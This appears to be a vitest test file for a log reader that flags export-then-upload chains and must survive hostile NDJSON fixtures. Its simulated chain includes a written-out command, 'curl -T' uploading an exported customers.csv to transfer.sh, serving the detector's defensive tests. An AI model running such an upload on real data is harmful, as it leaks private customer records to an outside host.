import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Account, type Ledger, sum } from '../../agent/health/ledger.ts';
import { damaged } from '../support/json-text.ts';
import { judged } from '../support/judged.ts';
import { PROGRAMS, Story } from '../support/story.ts';

/** Input that somebody wrote to break the reader, each file with what becomes of its lines. */
const FOLDER = join(import.meta.dirname, '../fixtures/hostile');

const EXPECTED: Readonly<Record<string, Omit<Counts, 'stored'>>> = {
  'arrays.ndjson': {
    received: 12,
    skipped: { 'nothing-new': 1 },
    dropped: { 'not-an-object': 7, 'unknown-record': 3, 'bad-shape': 1 },
    badRows: 3,
  },
  'bom.ndjson': {
    received: 3,
    skipped: { 'nothing-new': 2, 'not-relevant': 1 },
    dropped: {},
    badRows: 0,
  },
  'controls.ndjson': {
    received: 4,
    skipped: { 'not-relevant': 2 },
    dropped: { 'bad-json': 2 },
    badRows: 0,
  },
  'crlf.ndjson': {
    received: 4,
    skipped: { 'not-relevant': 3, 'nothing-new': 1 },
    dropped: {},
    badRows: 0,
  },
  'cut-lines.ndjson': { received: 6, skipped: {}, dropped: { 'bad-json': 6 }, badRows: 0 },
  'deep-nesting.ndjson': {
    received: 6,
    skipped: { 'not-relevant': 1 },
    dropped: { 'not-an-object': 1, 'unknown-record': 1, 'bad-shape': 2, 'bad-json': 1 },
    badRows: 0,
  },
  'duplicate-keys.ndjson': {
    received: 6,
    skipped: { 'not-relevant': 4, 'unknown-source': 1 },
    dropped: { 'bad-shape': 1 },
    badRows: 0,
  },
  'huge-numbers.ndjson': {
    received: 9,
    skipped: { 'not-relevant': 5, 'nothing-new': 2 },
    dropped: { 'bad-shape': 2 },
    badRows: 3,
  },
  'invalid-utf8.ndjson': {
    received: 6,
    skipped: { 'nothing-new': 1 },
    dropped: { 'invalid-utf8': 3, 'bad-json': 2 },
    badRows: 0,
  },
  'lone-surrogates.ndjson': {
    received: 4,
    skipped: { 'not-relevant': 3, 'event-not-used': 1 },
    dropped: {},
    badRows: 0,
  },
  'long-argument.ndjson': {
    received: 3,
    skipped: { 'not-relevant': 3 },
    dropped: {},
    badRows: 0,
  },
  'magic-keys.ndjson': {
    received: 10,
    skipped: { 'not-relevant': 1, 'event-not-used': 1, 'unknown-source': 2, 'nothing-new': 1 },
    dropped: { 'forbidden-key': 4, 'unknown-record': 1 },
    badRows: 1,
  },
  'nothing.ndjson': { received: 0, skipped: {}, dropped: {}, badRows: 0 },
  'nul.ndjson': {
    received: 6,
    skipped: { 'not-relevant': 3 },
    dropped: { 'bad-json': 3 },
    badRows: 0,
  },
  'wrong-types.ndjson': {
    received: 14,
    skipped: { 'not-relevant': 1, 'unmodified-close': 1 },
    dropped: { 'bad-shape': 12 },
    badRows: 0,
  },
};

interface Counts {
  readonly received: number;
  readonly stored: number;
  readonly skipped: Readonly<Record<string, number>>;
  readonly dropped: Readonly<Record<string, number>>;
  readonly badRows: number;
}

function countsOf({ received, stored, skipped, dropped, badRows }: Account): Counts {
  return {
    received,
    stored,
    skipped: Object.fromEntries(skipped),
    dropped: Object.fromEntries(dropped),
    badRows,
  };
}

function expectBalance(ledger: Ledger): void {
  for (const [collector, { received, stored, skipped, dropped }] of ledger.accounts()) {
    const accounted = stored + sum(skipped) + sum(dropped);
    expect({ collector, accounted }).toEqual({ collector, accounted: received });
  }
}

/** A tool's export that is uploaded by a command, in two halves: what comes before and after the export. */
function story(): { readonly before: readonly string[]; readonly after: readonly string[] } {
  const told = new Story().host();
  const shell = told.shell();
  const tool = told.run(shell, { ...PROGRAMS.psql, args: ['psql', 'crm'] });
  const before = [...told.lines()];
  const path = '/Users/maria/Downloads/customers.csv';
  told.wait(30).write(tool, path).exit(tool).wait(30);
  const args = ['curl', '-T', path, 'https://transfer.sh/customers.csv'];
  told.exit(told.run(shell, { ...PROGRAMS.curl, args }));
  return { before, after: told.lines().slice(before.length) };
}

function captureOf(lines: readonly string[]): Buffer {
  return Buffer.from(lines.map((line) => `${line}\n`).join(''));
}

const { before, after } = story();
const undisturbed = judged(captureOf([...before, ...after]));

describe('hostile input', () => {
  it('has an expectation for each file of the folder', () => {
    expect(readdirSync(FOLDER).toSorted()).toEqual(Object.keys(EXPECTED));
  });

  it.each(Object.entries(EXPECTED))('%s is read and accounted for', (name, expected) => {
    const objectKeys = Reflect.ownKeys(Object.prototype);
    const { emissions, ledger } = judged(readFileSync(join(FOLDER, name)));
    expect(countsOf(ledger.total())).toEqual({ ...expected, stored: 0 });
    expectBalance(ledger);
    expect(emissions).toEqual([]);
    expect(Reflect.ownKeys(Object.prototype)).toEqual(objectKeys);
  });

  it.each(Object.keys(EXPECTED))('%s in the middle of a chain costs only itself', (name) => {
    expect(undisturbed.emissions.map((emission) => emission.stage)).toEqual([
      'tool',
      'export',
      'upload',
    ]);
    const hostile = readFileSync(join(FOLDER, name));
    const capture = Buffer.concat([
      captureOf(before),
      hostile,
      Buffer.from('\n'),
      captureOf(after),
    ]);
    const { emissions, ledger } = judged(capture);
    expect(emissions).toEqual(undisturbed.emissions);
    expectBalance(ledger);
    const { received, stored } = undisturbed.ledger.total();
    expect(ledger.total().stored).toBe(stored);
    expect(ledger.total().received).toBe(received + EXPECTED[name]!.received);
  });

  it('is accounted for whatever stands in place of one value of one line of a chain', () => {
    fc.assert(
      fc.property(damaged([...before, ...after]), fc.nat(after.length), (line, place) => {
        const lines = [...before, ...after.slice(0, place), line, ...after.slice(place)];
        const { ledger } = judged(captureOf(lines));
        expectBalance(ledger);
        expect(ledger.total().received).toBe(lines.length);
      }),
      { numRuns: 60 },
    );
  });

  it('is no gap where a malformed line still shows the number that it had', () => {
    const told = new Story().host();
    const shell = told.shell();
    const tool = told.run(shell, { ...PROGRAMS.psql, args: ['psql', 'crm'] });
    told.close(shell, '/Users/maria/.zsh_history');
    const malformed = told.lines().length - 1;
    told.write(tool, '/Users/maria/Downloads/customers.csv');
    const lines = told.lines().map((line, index) => {
      return index === malformed ? line.replace('"target":', '"mark":') : line;
    });
    const { emissions, ledger } = judged(captureOf(lines));
    expect(countsOf(ledger.total()).dropped).toEqual({ 'bad-shape': 1 });
    expect(emissions.at(-1)).toMatchObject({ stage: 'export', coverage: 'complete' });
  });
});
